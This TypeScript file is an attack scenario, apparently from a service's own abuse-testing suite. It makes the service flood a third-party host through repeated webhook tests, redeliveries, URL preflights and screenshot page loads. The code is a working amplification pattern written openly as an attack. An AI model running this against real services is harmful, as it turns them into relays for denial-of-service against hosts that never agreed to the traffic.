// Attack: requests of the service to a third-party host, by webhook tests, redeliveries, preflights and page loads.

import { type AttackContext, nameOf, repeat } from './attack-context.ts';

export async function floodHost(context: AttackContext): Promise<void> {
  const url = `http://${context.thirdParty}`;
  const events = ['job.completed', 'job.failed', 'credits.low'];
  const made = await context.api('POST /webhooks', { url: `${url}/hook`, events });
  context.count(`webhook ${nameOf(made)}`);
  const hook = made.body['id'];
  await Promise.all([
    testWebhook(context, String(hook)),
    preflight(context, `${url}/`),
    preflight(context, `${url}/film.mp4`),
    load(context, `${url}/`),
  ]);
}

async function testWebhook(context: AttackContext, hook: string): Promise<void> {
  await repeat(context, { lines: 2, everyMs: 100 }, async () => {
    const tested = await context.api(`POST /webhooks/${hook}/test`, {});
    context.count(`test ${nameOf(tested)}`);
    if (typeof tested.body['id'] !== 'string') return;
    context.count(
      `redeliver ${nameOf(await context.api(`POST /webhooks/deliveries/${tested.body['id']}/redeliver`, {}))}`,
    );
  });
}

async function preflight(context: AttackContext, url: string): Promise<void> {
  await repeat(context, { lines: 2, everyMs: 100 }, async (number) => {
    const body = { mode: 'from_url', from_url: { url: `${url}?look=${number}` } };
    context.count(`preflight ${nameOf(await context.api('POST /instant-post/preflight', body))}`);
  });
}

async function load(context: AttackContext, url: string): Promise<void> {
  await repeat(context, { everyMs: 1_500 }, async (number) => {
    const options = { wait_for_selector: '#nope', timeout_ms: 1_000 };
    const response = await context.api('POST /capture/screenshot', { url: `${url}?load=${number}`, options });
    context.count(`load ${nameOf(response)}`);
    if (response.status === 200) context.receive('screenshot');
  });
}
